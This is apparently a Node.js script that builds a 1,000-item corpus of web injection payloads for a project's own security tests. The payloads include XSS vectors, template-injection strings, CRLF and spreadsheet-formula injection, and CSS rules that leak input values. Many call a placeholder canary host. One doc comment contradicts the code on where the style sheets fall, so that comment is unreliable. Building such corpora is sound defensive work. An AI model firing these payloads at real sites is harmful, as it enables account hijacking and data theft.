// 1,000 texts that try to become more than text, for the tests of injection (S7). Each tries to open a
// dialog, to leave a mark on the console, or to reach the canary, an address that nothing of ours asks.
//
// `node payloads.mjs > ../tests/injection/payloads.json` writes the corpus that the tests read, so that
// both kinds of tests try the same.
import { fileURLToPath } from 'node:url';

/** Nobody answers there; any request to it is a hit. */
export const CANARY = 'canary.invalid';
/** What a payload that runs writes to the console. */
export const MARK = 'waymark-injected';

const ACTIONS = [
  'alert(1)',
  `console.log('${MARK}')`,
  `fetch('//${CANARY}/f')`,
  `new Image().src='//${CANARY}/i'`,
  'window.injected=1',
];

/** Markup; ACT stands for an action, NET for an address of the canary. */
const MARKUP = [
  '<script>ACT</script>', '<ScRiPt>ACT</sCrIpT>', '<script src=//NET/s.js></script>', '<script type=module>ACT</script>',
  '<img src=x onerror=ACT>', '<img src=//NET/p.png>', '<img srcset="//NET/p.png 1x">', '<IMG SRC=x ONERROR="ACT">',
  '<img/src=x/onerror=ACT>', '<img src=x\tonerror\n=\rACT>', '<svg onload=ACT>', '<svg/onload=ACT>',
  '<svg><script>ACT</script></svg>', '<svg><a xlink:href="javascript:ACT"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=ACT attributeName=x dur=1s>', '<svg><set onbegin=ACT attributeName=x>',
  '<svg><image href="//NET/p.svg"/></svg>', '<svg><use href="//NET/p.svg#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=ACT></foreignObject></svg>', '<svg><style>@import "//NET/s.css";</style></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ACT&gt;"></mglyph></math>',
  '<math href="javascript:ACT">x</math>', '<math><a xlink:href="javascript:ACT">x</a></math>',
  '<iframe src="javascript:ACT"></iframe>', '<iframe srcdoc="<script>ACT</script>"></iframe>', '<iframe src=//NET/></iframe>',
  '<object data="javascript:ACT"></object>', '<object data=//NET/o></object>', '<embed src="javascript:ACT">', '<embed src=//NET/e>',
  '<body onload=ACT>', '<body background=//NET/b.png>', '<details open ontoggle=ACT>x</details>',
  '<input autofocus onfocus=ACT>', '<select autofocus onfocus=ACT></select>', '<textarea autofocus onfocus=ACT></textarea>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=ACT>x</div>', '<marquee onstart=ACT>x</marquee>',
  '<video src=x onerror=ACT></video>', '<video><source onerror=ACT></video>', '<video poster=//NET/p.png></video>',
  '<audio src=x onerror=ACT></audio>', '<audio src=//NET/a autoplay></audio>', '<track src=//NET/t default>',
  '<link rel=stylesheet href=//NET/s.css>', '<link rel=preload as=image href=//NET/p.png>', '<link rel=dns-prefetch href=//NET/>',
  '<link rel=prefetch href=//NET/n>', '<meta http-equiv=refresh content="0;url=//NET/">',
  '<meta http-equiv=refresh content="0;url=javascript:ACT">', '<base href=//NET/>', '<style>*{background:url(//NET/b)}</style>',
  '<style>@import "//NET/s.css";</style>', '<style>@font-face{font-family:x;src:url(//NET/f)}*{font-family:x}</style>',
  '<p style="background:url(//NET/b)">x</p>', '<p style="animation:x" onanimationstart=ACT>x</p>',
  '<form action=//NET/><button autofocus>x</button></form>', '<form><button formaction="javascript:ACT">x</button></form>',
  '<a href="javascript:ACT">x</a>', '<a href="JaVaScRiPt:ACT">x</a>', '<a href="java\tscript:ACT">x</a>',
  '<a href="data:text/html,<script>ACT</script>">x</a>', '<a href=# onclick=ACT autofocus onfocus=ACT>x</a>',
  '<area href="javascript:ACT">', '<template><img src=x onerror=ACT></template>', '<noscript><img src=x onerror=ACT></noscript>',
  '<dialog open oncancel=ACT>x</dialog>', '<slot onslotchange=ACT></slot>', '<xmp><img src=x onerror=ACT></xmp>',
  '<frameset onload=ACT>', '<isindex type=image src=1 onerror=ACT>', '<keygen autofocus onfocus=ACT>', '<bgsound src=//NET/s>',
  '<table background=//NET/t><td background=//NET/d>x</table>', '<input type=image src=//NET/i>', '<portal src=//NET/>',
  '<script>ACT//', '<img src=x onerror=ACT//', '<svg onload=ACT//', '<<script>ACT//<</script>', '<scr<script>ipt>ACT</scr</script>ipt>',
  '<script\u0000>ACT</script>', '<img src=x onerror\u0000=ACT>', '<\u0000script>ACT</script>', '\u2028<script>ACT</script>',
  '\ufeff<script>ACT</script>', '＜script＞ACT＜/script＞', '\u202e<script>ACT</script>', '<\u200bscript>ACT</script>',
];

/** Texts that are dangerous elsewhere than in markup. */
const PLAIN = [
  'javascript:ACT', 'JAVASCRIPT:ACT', 'java\nscript:ACT', ' javascript:ACT', '\u0001javascript:ACT', 'javascript&colon;ACT',
  'jav&#x09;ascript:ACT', '&#106;avascript:ACT', 'vbscript:ACT', 'data:text/html,<script>ACT</script>', '//NET/x', 'https://NET/x',
  'https://NET/"onmouseover="ACT', 'https://u:p@NET/', 'mailto:x@NET?subject=x', '[x](javascript:ACT)', '[x](JaVaScRiPt:ACT)',
  '[x](data:text/html,<script>ACT</script>)', '![x](//NET/p.png)', '![x](https://NET/p.png)', '<javascript:ACT>', '[x]: javascript:ACT\n\n[x]',
  '[<img src=x onerror=ACT>](https://NET)', '[x](https://NET "onmouseover=ACT")', '`<script>ACT</script>`', '    <script>ACT</script>',
  '- <img src=x onerror=ACT>\n- [x](javascript:ACT)', '**<script>ACT</script>**', '# <img src=x onerror=ACT>', '> <script>ACT</script>',
  '{{ shop.secret }}', '{{constructor.constructor("ACT")()}}', "{{ 'x' | append: '<script>ACT</script>' }}", '{% raw %}<script>ACT</script>{% endraw %}',
  '{% include "x" %}', '{%- assign x = "<script>ACT</script>" -%}{{ x }}', '{{{ACT}}}', '{ {{ { ACT', '}}{{ACT}}', '${ACT}', '#{ACT}',
  '<%= ACT %>', '<?php ACT ?>', '[[${ACT}]]', '@{ACT}', '{# x #}', '*{ACT}', '`${ACT}`', "';ACT;//", '";ACT;//', '\\";ACT;//', "\\';ACT;//",
  '</script><script>ACT</script>', '\\u003cscript\\u003eACT\\u003c/script\\u003e', '\\x3cscript\\x3eACT\\x3c/script\\x3e', '%3Cscript%3EACT%3C/script%3E',
  '&lt;script&gt;ACT&lt;/script&gt;', '&amp;lt;script&amp;gt;ACT', '&#60;script&#62;ACT&#60;/script&#62;', '&#x3c;script&#x3e;ACT', '&ltscript&gtACT',
  '{"@type":"x"}</script><script>ACT</script>', ']]><script>ACT</script>', '<![CDATA[<script>ACT</script>]]>', '<!--<script>ACT</script>-->',
  '<!-- --!><script>ACT</script>', '<!--><script>ACT</script>', '<!><script>ACT</script>', '<!doctype html><script>ACT</script>', '<?xml version="1.0"?><script>ACT</script>',
  '+ADw-script+AD4-ACT+ADw-/script+AD4-', '%00<script>ACT</script>', '\r\nSet-Cookie: x=1\r\n\r\n<script>ACT</script>', "=HYPERLINK('//NET/x')", '@SUM(1)*cmd', 'x\u0000y',
  '\u{10ffff}', '𒐫<script>ACT</script>', 'a'.repeat(300), '\u0336<script>ACT</script>', '\u202e\u2066<img src=x onerror=ACT>\u2069',
];

/** Styles, as whole style sheets. */
const STYLE = [
  '*{background:url(//NET/b)}', '@import "//NET/s.css";', '@import url(//NET/s.css);', '@font-face{font-family:x;src:url(//NET/f)}',
  'input[value^=a]{background:url(//NET/a)}', 'a[href*=o]{color:red}', '*{background:u\\72l(//NET/b)}', '*{background:\\75\\72\\6c(//NET/b)}',
  '*{background:image-set("//NET/b" 1x)}', '*{background:-webkit-image-set(url(//NET/b) 1x)}', '*{list-style:url(//NET/b)}', '*{cursor:url(//NET/c),auto}',
  '*{content:url(//NET/c)}', '*{filter:url(//NET/f#x)}', '*{mask:url(//NET/m)}', '*{border-image:url(//NET/b) 1}', '*{clip-path:url(//NET/c#x)}',
  '*{shape-outside:url(//NET/s)}', '*{--x:url(//NET/x);background:var(--x)}', '*{background:var(--y,url(//NET/b))}', '*{background:src("//NET/b")}',
  '*{background:image("//NET/b")}', '*{background:cross-fade(url(//NET/a),url(//NET/b))}', '*{width:expression(ACT)}', '*{behavior:url(//NET/x.htc)}',
  '*{-moz-binding:url(//NET/x.xml#x)}', '</style><script>ACT</script>', '*{content:"</style><script>ACT</script>"}', '/*</style><script>ACT</script>*/',
  '*{color:red}}body{background:url(//NET/b)}', 'body{display:none}', 'html{display:none}', ':root{--accent:#fff}', '.mast{display:none}',
  '*{position:fixed;inset:0;z-index:9999}', '*{position:var(--p);--p:fixed}', 'p{content:"{{ shop.secret }}"}', '@charset "utf-7";', '@namespace url(//NET/n);',
  '@keyframes x{from{background:url(//NET/k)}}*{animation:x 1s}', '@property --x{syntax:"<url>";inherits:true;initial-value:url(//NET/p)}',
  '@supports (background:url(//NET/b)){*{color:red}}', '@layer x{*{background:url(//NET/b)}}', '@container (width>0){*{background:url(//NET/b)}}',
  '@media all{@media all{@media all{*{color:red}}}}', '@scope (body){footer{display:none}}', '@page{background:url(//NET/p)}', '@media screen and (x:url(//NET/b)){*{color:red}}',
  '& ~ footer{display:none}', 'h1{body:has(&) .mast{display:none}}', ':is(body,html){display:none}', 'body:has(#main) .mast{display:none}', '#main ~ footer{display:none}',
  '::view-transition{background:red}', '::-webkit-scrollbar{background:url(//NET/s)}', ':host{display:none}', '*{background:URL(//NET/b)}', '*{background:url("//NET/b")}',
  '*{background:url(\'//NET/b\')}', '*{background:\nurl(//NET/b)}', '*{background:url(data:image/svg+xml,<svg onload=ACT>)}', '*{background:url(javascript:ACT)}',
  '<!-- *{background:url(//NET/b)} -->', '*{background-image:paint(x)}', '*{background:element(#main)}', '*{content:attr(href)}', '*{color:env(x,url(//NET/b))}',
  'a{b:c;background:url(//NET/b', '*{font:1px/1 x;src:url(//NET/f)}', '*{offset-path:url(//NET/p#x)}', '*{marker:url(//NET/m#x)}',
];

/** Where markup may land: in text, in an attribute, in an element whose text is raw, in a comment. */
const AROUND = [
  (text) => text, (text) => `">${text}`, (text) => `'>${text}`, (text) => `" ${text} x="`, (text) => `</title>${text}`, (text) => `</textarea>${text}`,
  (text) => `</style>${text}`, (text) => `</script>${text}`, (text) => `-->${text}`, (text) => `</option></select>${text}`, (text) => `</svg></math>${text}`,
  (text) => `" autofocus onfocus="ACT" x="${text}`, (text) => `\`${text}\``, (text) => text.toUpperCase().replaceAll('ACT', 'ACT').replaceAll('NET', 'NET'),
];

const COUNT = 1000;

/** The texts, always the same ones in the same order; the last ones are style sheets. */
export function payloads() {
  const made = new Set();
  let turn = 0;
  const add = (text) => {
    if (made.size >= COUNT) return;
    const action = ACTIONS[turn % ACTIONS.length];
    turn += 1;
    made.add(text.replaceAll('ACT', action).replaceAll('NET', CANARY));
  };
  for (const text of STYLE) add(text);
  for (const text of PLAIN) add(text);
  for (let round = 0; made.size < COUNT && round < AROUND.length * 4; round += 1) {
    for (const text of MARKUP) add(AROUND[round % AROUND.length](text));
  }
  return [...made];
}

/** The style sheets among them. */
export const styles = () => payloads().slice(0, STYLE.length);

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  process.stdout.write(`${JSON.stringify(payloads(), null, 0).replaceAll('","', '",\n"')}\n`);
}
